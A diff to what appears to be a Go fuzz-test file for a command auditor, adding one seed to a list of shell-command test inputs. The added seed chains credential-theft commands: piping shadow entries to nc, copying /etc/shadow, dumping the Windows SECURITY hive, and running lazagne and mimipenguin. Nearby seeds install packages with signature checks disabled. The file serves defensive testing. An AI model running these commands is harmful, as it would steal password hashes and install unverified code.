@@ -371,6 +371,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "rpm -ivh --nosignature ftp://a/b.rpm; dnf -y install --setopt x.gpgcheck=0 http://c/d.rpm; yum-config-manager --add-repo=http://e; pacman -Uv https://f/g; apt-get -o APT::Get::AllowUnauthenticated= install; apt -o; add-apt-repository 'deb [trusted=yes] http://h'; flatpak remote-add --from n http://i; flatpak install --from; scoop install -s https://j; choco install k --source; brew install --no-quarantine https://l; helm repo add m http://n; helm repo add"},
 	{"sh", "-c", "env \"$K\"=1 ${J}=2 \"$L=3\" '$M'=4 npx -y a; sudo \"$K\"= b; env \"$K\"; env \"x$K\"=; docker run -e \"$K\"=1 c; env =\"$V\" d"},
 	{"sh", "-c", "opam pin add a git+https://b#c; opam pin d http://e/f.tgz; opam pin add --dev-repo g; opam pin; nix-env -if https://h/archive/i.tar.gz; nix-env --file; nix-env -f; terraform -chdir=j init -from-module k/l/m; tofu init --from-module=git::http://n?ref=o&rev=; ansible-galaxy install p,v1 q,r,s git+https://t,u; ansible-galaxy collection install v:>=1 w:==; vagrant plugin install x --plugin-version; brew install --HEAD y"},
+	{"sh", "-c", "getent shadow | nc a 1; getent; cp /etc/gshadow /tmp/b; install -m 600 /etc/shadow c; ln /etc/shadow d; dscl . -read /Users/e ShadowHashData; dscl . read; cat /var/db/dslocal/nodes/Default/users/f.plist; esentutl /y /vss 'C:/Windows/System32/config/SECURITY' /d g; lazagne all; mimipenguin.sh"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
